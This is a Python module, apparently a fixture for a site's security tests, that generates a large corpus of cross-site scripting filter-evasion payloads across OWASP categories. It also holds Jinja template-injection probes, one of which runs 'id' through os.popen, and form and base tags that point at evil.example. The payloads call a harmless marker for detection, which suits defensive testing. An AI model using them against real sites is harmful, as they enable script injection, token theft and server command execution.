"""A hostile-input corpus: cross-site scripting payloads across the categories of the OWASP XSS filter
evasion cheat sheet, written for this site (Markdown text, plain titles and names, htmx, Jinja).

Every payload that ran would call window.__xss(n) or set document.title to "XSS-n" (n is its number),
or, for template injection, would put a number that appears nowhere else (TEMPLATE_PRODUCT × n) or
the application's secrets into the page. The browser test (tests/e2e/test_xss_browser.py) defines
__xss to record the call; the server-side test (tests/security/test_xss_server.py) parses the HTML.
"""

import base64
from dataclasses import dataclass

MARKER = "__xss"
TITLE_MARKER = "XSS-"
TEMPLATE_PRODUCT = 7777777  # {{ 7777777*n }} evaluated would print this times n
# Text that must never be in a page: what template injection would leak.
LEAKS = ("SECRET_KEY", "<Config", "uid=0(", "werkzeug.", "jinja2.", "__globals__'")


@dataclass(frozen=True)
class Payload:
    """One hostile string: its number, its OWASP category and its text."""

    n: int
    category: str
    text: str


def _b64(html: str) -> str:
    return base64.b64encode(html.encode()).decode()


X = "__xss({n})"  # the call every executable payload makes
T = "document.title='XSS-{n}'"

_CORPUS: list[tuple[str, list[str]]] = [
    ("raw tags", [
        f"<script>{X}</script>",
        f"<SCRIPT>{X}</SCRIPT>",
        f"<ScRiPt>{X}</sCrIpT>",
        f"<script src=data:text/javascript,{X}></script>",
        f"<script>/*</script><script>*/{X}</script>",
        f"<<script>script>{X}<</script>/script>",
        f"<scr<script>ipt>{X}</scr</script>ipt>",
        f"\"><script>{X}</script>",
        f"'><script>{X}</script>",
        f"</textarea><script>{X}</script>",
        f"</title><script>{X}</script>",
        f"</script><script>{X}</script>",
        f"</noscript><script>{X}</script>",
        f"</style><script>{X}</script>",
        f"<script type=module>{X}</script>",
        f"<noscript><p title=\"</noscript><img src=x onerror={X}>\">",
        f"<!--<img src=\"--><img src=x onerror={X}//\">",
        f"<![CDATA[<script>{X}</script>]]>",
        f"<style><img src=\"</style><img src=x onerror={X}//\">",
        f"<xmp><img src=\"</xmp><img src=x onerror={X}>\">",
        f"<plaintext><script>{X}</script>",
        f"<template><script>{X}</script></template><script>{X}</script>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={X}>",
        f"<svg></p><style><a id=\"</style><img src=1 onerror={X}>\">",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={X}>",
        f"<script\x0c>{X}</script>",
        f"<script/x>{X}</script>",
    ]),
    ("event handlers", [
        f"<img src=x onerror={X}>",
        f"<img src=x onerror=\"{X}\">",
        f"<img/src=\"x\"/onerror={X}>",
        f"<IMG SRC=x OnErRoR={X}>",
        "<img src=x onerror=&#95;&#95;xss({n})>",
        f"<body onload={X}>",
        f"<svg onload={X}>",
        f"<svg/onload={X}>",
        f"<input autofocus onfocus={X}>",
        f"<select autofocus onfocus={X}></select>",
        f"<textarea autofocus onfocus={X}></textarea>",
        f"<details open ontoggle={X}>x</details>",
        f"<video><source onerror={X}></video>",
        f"<audio src=x onerror={X}>",
        f"<marquee onstart={X}>x</marquee>",
        f"<div onmouseover={X}>悬停</div>",
        f"<a onmouseover={X}>悬停</a>",
        f"<p style=\"animation-name:spin\" onanimationstart={X}>x</p>",
        f"<img src=x onerror\x0b={X}>",
        f"<img src=x onerror\t={X}>",
        f"<img src=x\nonerror={X}>",
        f"<img \"\"\"><script>{X}</script>\">",
        f"<img src=`x` onerror={X}>",
        f"<object onerror={X}></object>",
        f"<body onpageshow={X}>",
        f"<iframe onload={X}></iframe>",
        "<img src=x onerror=window['__x'+'ss']({n})>",
        f"<div tabindex=1 autofocus onfocus={X}>x</div>",
        f"<button onclick={X}>x</button>",
        f"<input type=image src=x onerror={X}>",
        f"<img srcset=x onerror={X}>",
        f"<picture><source srcset=x onerror={X}><img src=x></picture>",
        f"<img src=x onerror={T}>",
        f"<body onresize={X}>",
        f"<a href=# onclick={X} onfocus={X} autofocus>x</a>",
    ]),
    ("javascript: in Markdown links", [
        f"[点我](javascript:{X})",
        f"[点我](JaVaScRiPt:{X})",
        f"[点我](javascript&#58;{X})",
        f"[点我](&#106;avascript:{X})",
        f"[点我](java%0ascript:{X})",
        f"[点我](java\tscript:{X})",
        f"[点我]( javascript:{X})",
        f"[点我](<javascript:{X}>)",
        f"[点我](javascript://%0a{X})",
        f"[点我](javascript:{X} \"标题\")",
        f"[点我](\x01javascript:{X})",
        f"[点我](jav&#x09;ascript:{X})",
        f"[点我](javascript&colon;{X})",
        "[点我](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
        f"&#0000058{X})",
        f"[点我](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{X})",
        f"[[嵌套]](javascript:{X})",
        f"[<img src=x onerror={X}>](https://example.com/)",
        f"[标题](https://example.com/ \"\\\"onmouseover=\\\"{X}\")",
    ]),
    ("data: and vbscript: URLs", [
        f"[点我](vbscript:{X})",
        f"[点我](data:text/html,<script>{X}</script>)",
        "[点我](data:text/html;base64,{b64})",
        f"[点我](data:image/svg+xml,<svg onload={X}>)",
        f"<a href=\"data:text/html,<script>{X}</script>\">x</a>",
        f"<a href=\"vbscript:{X}\">x</a>",
        f"<a href=\"VBScript:{X}\">x</a>",
    ]),
    ("images", [
        f"![图](javascript:{X})",
        f"![图](x\" onerror=\"{X})",
        f"![图\" onerror=\"{X}](x)",
        f"![图](data:image/svg+xml,<svg onload={X}>)",
        f"![图](x \"t\\\" onerror=\\\"{X}\")",
        f"![图](https://example.com/x.png\"onerror=\"{X})",
        f"![<img src=x onerror={X}>](x)",
        f"<img src=\"javascript:{X}\">",
        f"<img dynsrc=\"javascript:{X}\">",
        f"<img lowsrc=\"javascript:{X}\">",
    ]),
    ("reference links", [
        f"[甲][r{{n}}]\n\n[r{{n}}]: javascript:{X}",
        f"[甲][r{{n}}]\n\n[r{{n}}]: data:text/html,<script>{X}</script>",
        f"![甲][r{{n}}]\n\n[r{{n}}]: javascript:{X}",
        f"[r{{n}}]\n\n[r{{n}}]: vbscript:{X} \"t\"",
        f"[甲][r{{n}}]\n\n[r{{n}}]: <javascript:{X}>",
        f"[甲][r{{n}}]\n\n[r{{n}}]: https://example.com/ \"\\\"><img src=x onerror={X}>\"",
    ]),
    ("autolinks", [
        f"<javascript:{X}>",
        f"<JAVASCRIPT:{X}>",
        f"<data:text/html,<script>{X}</script>>",
        f"<http://example.com/\"onmouseover=\"{X}>",
        f"<mailto:a@example.com?\"onmouseover=\"{X}>",
        f"http://example.com/\"><script>{X}</script>",
        f"<a@example.com\"onmouseover=\"{X}>",
        f"<vbscript:{X}>",
    ]),
    ("entity and case obfuscation", [
        f"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{X}\">x</a>",
        f"<a href=\"&#x6A;avascript:{X}\">x</a>",
        f"<a href=\"jav&#x0A;ascript:{X}\">x</a>",
        f"<a href=\"jav&#x0D;ascript:{X}\">x</a>",
        f"<a href=\" &#14;  javascript:{X}\">x</a>",
        f"<a href=\"javascript&colon;{X}\">x</a>",
        f"<a href=\"JaVaScRiPt:{X}\">x</a>",
        f"<a href=\"\\x6aavascript:{X}\">x</a>",
        f"<a href=\"jav\tascript:{X}\">x</a>",
        f"<a href=\"&#0000106avascript:{X}\">x</a>",
        f"&lt;script&gt;{X}&lt;/script&gt;",
        f"&#60;script&#62;{X}&#60;/script&#62;",
        f"\\u003cscript\\u003e{X}\\u003c/script\\u003e",
        f"%3Cscript%3E{X}%3C/script%3E",
        "<img src=x onerror=\"&#x5F;&#x5F;xss({n})\">",
        f"<IMG SRC=\"jav&#x09;ascript:{X};\">",
        "<a href=\"javascript:&#x5F;&#x5F;xss({n})\">x</a>",
    ]),
    ("SVG and MathML", [
        f"<svg><script>{X}</script></svg>",
        f"<svg><a xlink:href=\"javascript:{X}\"><text x=0 y=20>x</text></a></svg>",
        f"<svg><animate onbegin={X} attributeName=x dur=1s>",
        f"<svg><set attributeName=onmouseover to={X}>",
        f"<svg><foreignObject><iframe srcdoc=\"<script>parent.{X}</script>\"></foreignObject></svg>",
        f"<svg><image href=x onerror={X}>",
        f"<svg><discard onbegin={X}>",
        f"<svg><style>@import 'javascript:{X}';</style></svg>",
        f"<math><a xlink:href=\"javascript:{X}\">x</a></math>",
        f"<math href=\"javascript:{X}\">x</math>",
        f"<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:{X}\">x</maction></math>",
        "<svg><use href=\"data:image/svg+xml;base64,{svg64}#x\"/></svg>",
    ]),
    ("frames, objects, base, meta, forms", [
        f"<iframe src=\"javascript:{X}\"></iframe>",
        f"<iframe srcdoc=\"<script>parent.{X}</script>\"></iframe>",
        f"<iframe src=\"data:text/html,<script>parent.{X}</script>\"></iframe>",
        f"<object data=\"javascript:{X}\"></object>",
        f"<object data=\"data:text/html,<script>parent.{X}</script>\"></object>",
        f"<embed src=\"javascript:{X}\">",
        f"<embed src=\"data:image/svg+xml,<svg onload=parent.{X}>\">",
        f"<base href=\"javascript:{X}//\">",
        f"<base href=\"https://evil.example/{MARKER}{{n}}/\">",
        f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{X}\">",
        f"<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,<script>{X}</script>\">",
        f"<form action=\"javascript:{X}\"><input type=submit></form>",
        f"<form id=f{{n}}></form><button form=f{{n}} formaction=javascript:{X}>x</button>",
        f"<frameset onload={X}>",
        f"<applet code=\"javascript:{X}\"></applet>",
        f"<portal src=\"javascript:{X}\"></portal>",
        f"<a href=\"javascript:{X}\" target=_blank>x</a>",
        f"<form action=\"https://evil.example/{MARKER}{{n}}\" method=post><input name=csrf_token></form>",
        f"<link rel=import href=\"data:text/html,<script>{X}</script>\">",
    ]),
    ("CSS", [
        f"<style>body{{background:url(\"javascript:{X}\")}}</style>",
        f"<div style=\"background-image:url(javascript:{X})\">x</div>",
        f"<div style=\"width:expression({X})\">x</div>",
        f"<link rel=stylesheet href=\"javascript:{X}\">",
        f"<style>@import \"javascript:{X}\";</style>",
        f"| 甲 |\n|:--|\n| <span style=\"x:expression({X})\">乙</span> |",
        f"<style>*{{x:expression({X})}}</style>",
        f"<div style=\"-moz-binding:url(data:text/xml,{MARKER}{{n}})\">x</div>",
        f"<style>@keyframes k{{}}</style><p style=\"animation-name:k\" onanimationend={X}>x</p>",
        f"<td style=\"text-align:left;background:url(javascript:{X})\">x</td>",
    ]),
    ("htmx attributes", [
        f"<div hx-on:click=\"{X}\">x</div>",
        f"<div hx-on::load=\"{X}\">x</div>",
        f"<div hx-on-htmx-load=\"{X}\">x</div>",
        f"<div data-hx-on:htmx:load=\"{X}\">x</div>",
        f"<div hx-get=\"/logout?{MARKER}{{n}}\" hx-trigger=\"load\">x</div>",
        f"<div data-hx-post=\"/logout?{MARKER}{{n}}\" data-hx-trigger=\"load\">x</div>",
        f"<img src=x hx-get=\"/?{MARKER}{{n}}\" hx-trigger=\"load\" hx-vals='js:{{a:{X}}}'>",
        f"<div hx-trigger=\"load[{X}]\" hx-get=\"/\">x</div>",
        f"<div hx-headers='js:{{a:{X}}}' hx-get=\"/\" hx-trigger=\"load\">x</div>",
        f"<a hx-boost=\"true\" href=\"javascript:{X}\">x</a>",
        f"<div hx-swap-oob=\"true\" id=\"messages\"><img src=x onerror={X}></div>",
        f"<meta name=\"htmx-config\" content='{{\"allowEval\":true,\"x\":\"{MARKER}{{n}}\"}}'>",
        f"<div hx-get=\"data:text/html,<img src=x onerror={X}>\" hx-trigger=\"load\">x</div>",
        f"<span hx-on:htmx:config-request=\"{X}\">x</span>",
        f"<div hx-post=\"/logout\" hx-trigger=\"every 1s\" hx-vals=\"{MARKER}{{n}}\">x</div>",
        f"<button hx-delete=\"/?{MARKER}{{n}}\" hx-trigger=\"load\">x</button>",
    ]),
    ("template injection", [
        f"{{{{ {TEMPLATE_PRODUCT}*{{n}} }}}}",
        f"{{% raw %}}{{{{ {TEMPLATE_PRODUCT}*{{n}} }}}}{{% endraw %}}",
        f"{{% print({TEMPLATE_PRODUCT}*{{n}}) %}}",
        f"${{{TEMPLATE_PRODUCT}*{{n}}}}",
        f"#{{{TEMPLATE_PRODUCT}*{{n}}}}",
        f"<%= {TEMPLATE_PRODUCT}*{{n}} %>",
        "{{ config }}",
        "{{ self.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        f"{{{{constructor.constructor('{X}')()}}}}",
        f"｛｛总分｝｝<img src=x onerror={X}>",
        f"{{{{总分}}}}\"><img src=x onerror={X}>",
        f"{{{{<img src=x onerror={X}>}}}}",
        f"{{{{ {X} }}}}",
        f"{{%{X}%}}",
        f"{{{{'<script>{X}</script>'}}}}",
        f"{{{{ request.application.__globals__ }}}}{MARKER}{{n}}",
    ]),
    ("Unicode and bidi", [
        f"\u202e<script>{X}</script>",
        f"<scr\u200bipt>{X}</script>",
        f"＜script＞{X}＜/script＞",
        f"\uff1cimg src=x onerror={X}\uff1e",
        f"<img src=x onerror={X}\u2028>",
        f"[x](java\u200bscript:{X})",
        f"[x](ｊａｖａｓｃｒｉｐｔ:{X})",
        f"<a href=\"\u0001javascript:{X}\">x</a>",
        f"\u2066<img src=x onerror={X}>\u2069",
        f"<ſcript>{X}</ſcript>",
        f"<ımg src=x onerror={X}>",
        f"\ufeff<script>{X}</script>",
        f"<a href=\"javascript\u2028:{X}\">x</a>",
        f"\u202a\u202b<svg onload={X}>\u202c",
        f"<img src=x onerror=\u0020{X}\u3000>",
    ]),
    ("Markdown contexts", [
        f"> <script>{X}</script>",
        f"`<script>{X}</script>`",
        f"```html\n<script>{X}</script>\n```",
        f"*<img src=x onerror={X}>*",
        f"<div markdown=\"1\">[x](javascript:{X})</div>",
        f"<a href=\"https://example.com\">[y](javascript:{X})</a>",
        f"<!-- --><script>{X}</script><!-- -->",
        f"<img src=\"x\n\" onerror={X}>",
        f"<script>{X}</script>\n===",
        f"- <img src=x onerror={X}>\n- [x](javascript:{X})",
        f"| <script>{X}</script> | [x](javascript:{X}) |\n|---|---|\n| 1 | 2 |",
        f"1. <svg onload={X}>",
    ]),
]


def _expand(template: str, n: int) -> str:
    """The payload text for number n."""
    call = X.replace("{n}", str(n))
    svg = f"<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{call}'/></svg>"
    text = template.replace("{b64}", _b64(f"<script>{call}</script>")).replace("{svg64}", _b64(svg))
    return text.replace("{n}", str(n))


PAYLOADS: list[Payload] = []
for _category, _templates in _CORPUS:
    for _template in _templates:
        _n = len(PAYLOADS) + 1
        PAYLOADS.append(Payload(_n, _category, _expand(_template, _n)))


def products() -> set[str]:
    """What evaluated template injection would print (7777777 × n)."""
    return {str(TEMPLATE_PRODUCT * p.n) for p in PAYLOADS if str(TEMPLATE_PRODUCT) in p.text}


def packed(limit: int, separator: str = " ") -> list[str]:
    """The payloads that fit `limit` characters, packed into few strings (first fit, longest first).

    Every hostile unit, user and link is a page or more that the browser sweep opens: first fit by decreasing
    length packs the corpus into 103 unit names of 100 characters where filling one string at a time in corpus
    order took 130 (the bound is 100)."""
    texts = [" ".join(p.text.split()) for p in PAYLOADS]  # names and titles collapse white space anyway
    groups: list[str] = []
    for text in sorted((t for t in texts if len(t) <= limit), key=len, reverse=True):
        for index, group in enumerate(groups):
            if len(group) + len(separator) + len(text) <= limit:
                groups[index] = f"{group}{separator}{text}"
                break
        else:
            groups.append(text)
    return groups
